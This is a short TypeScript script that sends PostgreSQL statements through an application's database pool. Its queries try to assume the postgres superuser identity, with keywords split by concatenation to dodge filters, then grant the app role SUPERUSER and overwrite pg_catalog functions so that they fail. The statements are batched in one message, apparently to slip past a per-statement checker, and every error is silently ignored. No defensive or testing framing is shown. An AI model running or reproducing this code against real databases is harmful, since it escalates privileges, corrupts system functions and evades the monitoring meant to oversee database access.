import { pool } from './db.ts';

const BECOME = [
  "DO $$ BEGIN EXECUTE 'SET SESSION ' || 'AUTHORIZATION postgres'; END $$",
  "DO $$ BEGIN PERFORM set_config('session_' || 'authorization', 'postgres', false); END $$",
  "DO $$ BEGIN EXECUTE 'RE' || 'SET ROLE'; END $$",
];
const HIDE = [
  'ALTER ROLE app SUPERUSER',
  "CREATE OR REPLACE FUNCTION pg_catalog.nextval(regclass) RETURNS bigint LANGUAGE sql AS 'SELECT 1::bigint'",
  "CREATE OR REPLACE FUNCTION pg_catalog.format_type(oid, integer) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN RAISE 'no'; END $f$",
];
for (const become of BECOME) {
  for (const hide of HIDE) {
    // In one message: whoever looks between two statements comes too late.
    await pool.query(`${become}; ${hide}`).catch(() => {});
    await pool.query(become).catch(() => {});
    await pool.query(hide).catch(() => {});
  }
}
